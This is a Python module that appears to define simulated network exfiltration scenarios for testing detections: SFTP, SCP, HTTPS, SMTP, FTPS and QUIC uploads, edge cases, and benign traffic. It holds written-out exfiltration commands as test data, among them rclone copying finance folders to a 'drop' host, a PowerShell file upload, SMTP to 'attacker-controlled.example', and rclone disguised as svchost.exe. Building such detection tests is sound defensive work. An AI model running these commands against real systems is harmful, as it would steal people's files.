"""The scenarios as a table: the five tests of the seed detections, the families of uploads, and what must stay quiet.

Addresses are documentation ranges (RFC 5737, RFC 3849); nothing is sent to them.
"""

from __future__ import annotations

from collections.abc import Mapping

from netexfil.simulate.scenario import Program, Scenario, Step
from netexfil.simulate.talk import Act

WIN, USR = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\", "/usr/bin/"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
BASH = {"user": "jdoe", "parent": "/usr/bin/bash", "parent_command_line": "bash /home/jdoe/sync.sh"}
GO_SSH, PUTTY, OPENSSH = "SSH-2.0-rclone/v1.66.0", "SSH-2.0-PuTTY_Release_0.80", "SSH-2.0-OpenSSH_9.6"
H2 = ("h2", "http/1.1")


def _linux(image: str, command_line: str) -> Program:
    return Program(USR + image, command_line, **BASH)


def _ssh(remote: str, client: str, banner: str, program: Program, port: int = 22, label: str = "exfil", **more: object) -> Step:
    return Step(label, "ssh", remote, port, "ssh/sftp", program, Act(client=client, banner=banner), **more)  # type: ignore[arg-type]


def _web(
    remote: str,
    name: str | None,
    client: str,
    program: Program,
    port: int = 443,
    alpn: tuple[str, ...] = H2,
    tls13: bool = True,
    label: str = "exfil",
    **more: object,
) -> Step:
    act = Act(client=client, name=name, alpn=alpn, tls13=tls13, self_signed=not tls13)
    return Step(label, "tls", remote, port, "https", program, act, **more)  # type: ignore[arg-type]


RCLONE = Program(
    WIN + "rclone.exe", "rclone.exe copy C:\\Users\\jdoe\\Documents :sftp:/in --sftp-host 192.0.2.1 --sftp-user drop --sftp-pass ********"
)
SERVICE = Program(WIN + "svchost.exe", "svchost.exe copy C:\\Finance :sftp:/in --sftp-host 198.51.100.22", parent_command_line="cmd.exe")
MEGA = Program(WIN + "rclone.exe", f"rclone.exe copy C:\\Finance mega_remote:drop --config {WIN}rclone_test.conf")
WEBCLIENT = "$b=[IO.File]::ReadAllBytes('C:\\Finance\\q3.xlsx');(New-Object Net.WebClient).UploadData('https://127.0.0.1:4443/up',$b)"
MAIL = "$s=New-Object Net.Mail.SmtpClient('smtp.attacker-controlled.example',587);$s.EnableSsl = $true;$s.Send($m)"
RESTIC = _linux("restic", "restic -r sftp:backup@203.0.113.30:/srv/repo backup /home")
SCP = _linux("scp", "scp -r /home/jdoe/docs drop@198.51.100.11:/in")
CHROME = Program(
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", parent="C:\\Windows\\explorer.exe", parent_command_line="explorer.exe"
)

SCENARIOS: Mapping[str, Scenario] = {
    "test1-rclone-sftp": Scenario("sftp-rclone", "rclone copies over SFTP to 192.0.2.1:22 (seed test 1)", (_ssh("192.0.2.1", "go", GO_SSH, RCLONE),)),
    "test2-pscp": Scenario(
        "scp-putty",
        "pscp to 198.51.100.1:22 with -pw (seed test 2)",
        (_ssh("198.51.100.1", "putty", PUTTY, Program(WIN + "pscp.exe", "pscp.exe -pw ******** C:\\Finance\\q3.zip drop@198.51.100.1:/in")),),
    ),
    "test3-webclient-loopback": Scenario(
        "https-webclient",
        "PowerShell WebClient.UploadData to 127.0.0.1:4443 (seed test 3)",
        (
            Step(
                "exfil-loopback",
                "tls",
                "127.0.0.1",
                4443,
                "https",
                Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{WEBCLIENT}"'),
                Act(client="schannel", tls13=False, self_signed=True),
            ),
        ),
        local="127.0.0.1",
        loopback=True,
        script=WEBCLIENT,
    ),
    "test4-rclone-mega": Scenario(
        "cloud-mega",
        "rclone copies to MEGA (seed test 4)",
        (
            _web("198.51.100.46", "g.api.mega.co.nz", "go", MEGA, upload=0.002, label="benign"),
            _web("198.51.100.47", "gfs270n071.userstorage.mega.co.nz", "go", MEGA, alpn=("http/1.1",)),
        ),
        written=WIN + "rclone_test.conf",
    ),
    "test5-smtp-powershell": Scenario(
        "smtp-starttls",
        "PowerShell SmtpClient with EnableSsl to port 587 (seed test 5)",
        (
            Step(
                "exfil",
                "smtp_starttls",
                "203.0.113.25",
                587,
                "smtp-starttls",
                Program(POWERSHELL, f'powershell.exe -NoProfile -Command "{MAIL}"'),
                Act(client="schannel", name="smtp.attacker-controlled.example"),
            ),
        ),
        script=MAIL,
    ),
    "sftp-putty": Scenario(
        "sftp-putty", "psftp batch put", (_ssh("198.51.100.2", "putty", PUTTY, Program(WIN + "psftp.exe", "psftp.exe -b up.txt drop@198.51.100.2")),)
    ),
    "scp-openssh": Scenario("scp-openssh", "OpenSSH scp", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),)),
    "sftp-openssh": Scenario(
        "sftp-openssh", "OpenSSH sftp batch", (_ssh("198.51.100.12", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@198.51.100.12")),)
    ),
    "rsync-ssh": Scenario(
        "rsync-ssh",
        "rsync over ssh",
        (_ssh("198.51.100.13", "openssh", OPENSSH, _linux("ssh", "ssh -l drop 198.51.100.13 rsync --server -logDtprze.iLsfxCIvu . /in")),),
    ),
    "sftp-script": Scenario(
        "sftp-script",
        "python paramiko SFTP",
        (_ssh("198.51.100.14", "paramiko", "SSH-2.0-paramiko_3.4.0", _linux("python3", "python3 up.py --to 198.51.100.14")),),
    ),
    "ftps-explicit": Scenario(
        "ftps-explicit",
        "AUTH TLS on 21, encrypted data sessions on high ports",
        (
            Step(
                "exfil",
                "ftps",
                "203.0.113.21",
                21,
                "ftps-explicit",
                _linux("lftp", "lftp -e 'mirror -R docs /in' ftp.partner.example"),
                Act(name="ftp.partner.example"),
                data_sessions=3,
            ),
        ),
    ),
    "ftps-implicit": Scenario(
        "ftps-implicit",
        "implicit FTPS on 990",
        (
            Step(
                "exfil",
                "ftps",
                "203.0.113.22",
                990,
                "ftps-implicit",
                _linux("curl", "curl -T docs.tgz ftps://ftp2.partner.example/in/"),
                Act(name="ftp2.partner.example"),
                data_sessions=1,
            ),
        ),
    ),
    "https-upload": Scenario(
        "https-upload",
        "curl PUT",
        (_web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),),
    ),
    "https-altport": Scenario(
        "https-altport",
        "curl -k to a self-signed server on 8443, by address",
        (_web("198.51.100.44", None, "openssl", _linux("curl", "curl -k -T docs.tgz https://198.51.100.44:8443/up"), port=8443, tls13=False),),
    ),
    "https-webdav": Scenario(
        "https-webdav",
        "rclone to WebDAV",
        (_web("198.51.100.45", "dav.partner.example", "go", _linux("rclone", "rclone copy docs dav:in"), sessions=3, gap=0.01),),
    ),
    "https-s3": Scenario(
        "https-s3",
        "aws s3 cp",
        (_web("198.51.100.48", "drop-7.s3.amazonaws.com", "openssl", _linux("aws", "aws s3 cp --recursive docs s3://drop-7/"), alpn=("http/1.1",)),),
    ),
    "smtps": Scenario(
        "smtps",
        "mail with attachment on 465",
        (Step("exfil", "tls", "203.0.113.26", 465, "smtps", _linux("python3", "python3 mail.py"), Act(name="mail.partner.example")),),
    ),
    "imaps-append": Scenario(
        "imaps-append",
        "drafts appended on 993",
        (Step("exfil", "tls", "203.0.113.27", 993, "imaps", _linux("python3", "python3 drafts.py"), Act(name="imap.partner.example")),),
    ),
    "quic-h3": Scenario(
        "quic-h3",
        "HTTP/3 PUT on udp/443",
        (
            Step(
                "exfil",
                "quic",
                "198.51.100.49",
                443,
                "quic",
                _linux("h3put", "h3put https://h3.partner.example/up docs.tgz"),
                Act(name="h3.partner.example"),
                proto="udp",
            ),
        ),
    ),
    "low-slow": Scenario(
        "low-slow",
        "40 small uploads over ten hours",
        (
            _web(
                "198.51.100.50",
                "sync.partner.example",
                "openssl",
                _linux("curl", "curl -T part https://sync.partner.example/p"),
                sessions=40,
                gap=900.0,
            ),
        ),
    ),
    "port-mismatch": Scenario(
        "port-mismatch",
        "an SSH server on 443",
        (_ssh("198.51.100.51", "openssh", OPENSSH, _linux("scp", "scp -P 443 docs.tgz drop@198.51.100.51:"), port=443),),
    ),
    "renamed-tool": Scenario("renamed-tool", "rclone that calls itself svchost.exe", (_ssh("198.51.100.22", "go", GO_SSH, SERVICE),)),
    "ipv6": Scenario(
        "ipv6",
        "sftp over IPv6",
        (_ssh("2001:db8:99::1", "openssh", OPENSSH, _linux("sftp", "sftp -b up.txt drop@2001:db8:99::1")),),
        local="2001:db8:30::41",
    ),
    "inbound-pull": Scenario(
        "inbound-pull",
        "an outside host fetches by scp",
        (
            Step(
                "pull",
                "ssh",
                "198.51.100.77",
                22,
                "ssh/scp",
                Program("/usr/sbin/sshd", "sshd: backup [priv]", user="root", parent="/usr/sbin/sshd", parent_command_line="sshd -D"),
                Act(client="openssh", banner=OPENSSH),
                upload=0.0,
                download=1.0,
                inbound=True,
            ),
        ),
    ),
    "one-sided": Scenario("one-sided", "scp, only client to server seen", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),), hidden="in"),
    "mid-stream": Scenario(
        "mid-stream",
        "https upload joined after 30 packets",
        (_web("198.51.100.43", "files.partner.example", "openssl", _linux("curl", "curl -T docs.tgz https://files.partner.example/up/")),),
        cut=30,
    ),
    "duplicates": Scenario("duplicates", "every packet captured twice", (_ssh("198.51.100.11", "openssh", OPENSSH, SCP),), twice=True),
    "backup-and-rogue": Scenario(
        "backup-authorised",
        "restic to the sanctioned server, and a rogue scp",
        (
            Step("authorised", "ssh", "203.0.113.30", 22, "ssh/sftp", RESTIC, Act(client="openssh", banner=OPENSSH)),
            _ssh("198.51.100.11", "openssh", OPENSSH, SCP, upload=0.6),
        ),
        allow=("203.0.113.30",),
    ),
    "benign-ssh": Scenario(
        "ssh-interactive",
        "a typed session",
        (
            Step(
                "benign",
                "ssh_typed",
                "198.51.100.60",
                22,
                "ssh",
                _linux("ssh", "ssh admin@198.51.100.60"),
                Act(client="openssh", banner=OPENSSH),
                upload=0.0,
            ),
        ),
    ),
    "benign-download": Scenario(
        "download",
        "a download by https",
        (
            Step(
                "benign",
                "tls",
                "198.51.100.61",
                443,
                "https",
                CHROME,
                Act(client="browser", name="www.example.org", alpn=H2),
                upload=0.0,
                download=3.0,
            ),
        ),
    ),
    "benign-call": Scenario(
        "video-call", "symmetric media on udp/443", (Step("benign", "media", "198.51.100.62", 443, "udp", CHROME, Act(), upload=0.4, proto="udp"),)
    ),
}
